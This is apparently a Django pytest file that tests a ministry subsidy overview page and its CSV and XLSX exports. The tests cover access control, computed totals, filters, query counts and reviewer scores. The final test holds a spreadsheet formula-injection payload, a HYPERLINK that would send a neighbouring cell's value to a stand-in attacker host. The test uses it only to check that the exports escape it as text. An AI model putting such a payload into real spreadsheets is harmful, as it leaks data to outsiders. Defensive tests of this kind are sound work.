"""The ministry's overview of a period's regions and its exports."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from ecosysteem.rollen import BEOORDELAARS
from partners.models import Provincie
from subsidie.dossier import laad_dossier
from tests.dossiers import compleet_dossier, leeg_dossier, voeg_vestigingen_toe
from tests.factories import GebruikerFactory

pytestmark = pytest.mark.django_db

OVERZICHT = reverse("subsidie:ministerie_overzicht")


def beoordelaar() -> Client:
    gebruiker = GebruikerFactory()
    gebruiker.groups.add(Group.objects.get(name=BEOORDELAARS))
    client = Client()
    client.force_login(gebruiker)
    return client


def test_only_ministry_staff_see_the_overview_and_its_exports():
    d = compleet_dossier()
    pm = Client()
    pm.force_login(d.programmamanager)
    for url in (OVERZICHT, reverse("subsidie:ministerie_csv"), reverse("subsidie:ministerie_xlsx")):
        assert pm.get(url).status_code == 403, url
        antwoord = Client().get(url)
        assert antwoord.status_code == 302, url
        assert antwoord["Location"].startswith(reverse("login"))
        assert beoordelaar().get(url).status_code == 200, url


def test_overview_shows_the_same_figures_as_the_dossier():
    d = compleet_dossier(naam="Techregio Noord")
    html = beoordelaar().get(OVERZICHT).content.decode()
    dossier = laad_dossier(d.regio)
    assert "Techregio Noord" in html
    # 23 × 8,500 + 2,300 × 45 = 299,000; co-financing 29,900
    assert dossier.berekening.totaal == Decimal("299000")
    assert "€\u00a0299.000,00" in html
    assert "€\u00a029.900,00" in html


def test_filters_by_province_and_status():
    noord = compleet_dossier(naam="Techregio Noord")
    noord.regio.provincies.add(Provincie.objects.get(naam="Groningen"))
    leeg_dossier(naam="Techregio Zuid").regio.provincies.add(Provincie.objects.get(naam="Limburg"))
    client = beoordelaar()
    groningen = Provincie.objects.get(naam="Groningen").pk
    html = client.get(OVERZICHT, {"provincie": groningen}).content.decode()
    assert "Techregio Noord" in html
    assert "Techregio Zuid" not in html
    html = client.get(OVERZICHT, {"status": "ingediend"}).content.decode()
    assert "Geen regio's die aan de filters voldoen." in html


def test_overview_costs_the_same_queries_for_2_and_12_regions(django_assert_num_queries):
    client = beoordelaar()
    for _ in range(2):
        compleet_dossier()
    client.get(OVERZICHT)
    # session, user, groups, filter choices (periods, provinces), period, regions,
    # provinces, regulation, participations, pledges, decisions, assessments, ...
    with django_assert_num_queries(14) as weinig:
        client.get(OVERZICHT)
    for _ in range(10):
        d = compleet_dossier()
        voeg_vestigingen_toe(d.regio, po=5, vo=0)
    with django_assert_num_queries(len(weinig.captured_queries)):
        antwoord = client.get(OVERZICHT)
    assert antwoord.content.decode().count("Techregio") >= 12


def test_csv_and_xlsx_hold_the_rows_of_the_page():
    compleet_dossier(naam="Techregio Noord")
    client = beoordelaar()

    antwoord = client.get(reverse("subsidie:ministerie_csv"))
    tekst = antwoord.content.decode("utf-8-sig")
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert rijen[0][0] == "Regio"
    assert rijen[1][0] == "Techregio Noord"
    assert rijen[1][5] == "299000,00"

    antwoord = client.get(reverse("subsidie:ministerie_xlsx"))
    blad = load_workbook(io.BytesIO(antwoord.content)).active
    assert blad["A2"].value == "Techregio Noord"
    assert Decimal(str(blad["F2"].value)) == Decimal("299000")
    assert 'filename="regios-tijdvak-2.xlsx"' in antwoord["Content-Disposition"]


def test_overview_and_exports_show_the_reviewer_and_the_total_score():
    from django.contrib.auth.models import Group

    from ecosysteem.rollen import BEOORDELAARS
    from subsidie.models import Beoordelingscriterium
    from subsidie.services import dien_in
    from subsidie.services.beoordeling import leg_beoordeling_vast, wijs_beoordelaar_toe
    from tests.factories import GebruikerFactory

    d = compleet_dossier(naam="Techregio Beoordeeld")
    compleet_dossier(naam="Techregio Concept")
    dien_in(regio=d.regio, door=d.programmamanager)
    bea = GebruikerFactory(first_name="Bea", last_name="Oordeel")
    bea.groups.add(Group.objects.get(name=BEOORDELAARS))
    wijs_beoordelaar_toe(regio=d.regio, beoordelaar=bea, door=bea)
    criteria = Beoordelingscriterium.objects.filter(tijdvak=d.regio.tijdvak)
    leg_beoordeling_vast(
        regio=d.regio, scores={c.code: (3, "Goed.") for c in criteria}, eindoordeel="Ja.", door=bea
    )
    client = beoordelaar()

    pagina = client.get(OVERZICHT).content.decode()
    assert reverse("subsidie:beoordeling", args=[d.regio.slug]) in pagina
    rijen = {
        r[0]: r
        for r in csv.reader(
            io.StringIO(client.get(reverse("subsidie:ministerie_csv")).content.decode("utf-8-sig")),
            delimiter=";",
        )
    }
    kop = rijen["Regio"]
    beoordeeld = dict(zip(kop, rijen["Techregio Beoordeeld"], strict=True))
    assert beoordeeld["Beoordelaar"] == "Bea Oordeel"
    assert beoordeeld["Totaalscore"] == str(3 * criteria.count())
    concept = dict(zip(kop, rijen["Techregio Concept"], strict=True))
    assert concept["Beoordelaar"] == "" and concept["Totaalscore"] == ""


def test_a_formula_in_a_region_name_stays_text_in_both_exports():
    """A region named like a spreadsheet formula that would send the next cell to another
    site: in the CSV and the XLSX it is text with an apostrophe in front, never a formula;
    the amounts next to it are still numbers."""
    naam = '=HYPERLINK("http://aanvaller.example/?lek="&F2,"Klik hier")'
    compleet_dossier(naam=naam)
    client = beoordelaar()

    tekst = client.get(reverse("subsidie:ministerie_csv")).content.decode("utf-8-sig")
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert rijen[1][0] == "'" + naam
    assert rijen[1][5] == "299000,00"

    blad = load_workbook(io.BytesIO(client.get(reverse("subsidie:ministerie_xlsx")).content)).active
    assert (blad["A2"].value, blad["A2"].data_type) == ("'" + naam, "s")
    assert all(cel.data_type != "f" for rij in blad.iter_rows() for cel in rij)
    assert blad["F2"].data_type == "n"
    assert Decimal(str(blad["F2"].value)) == Decimal("299000")
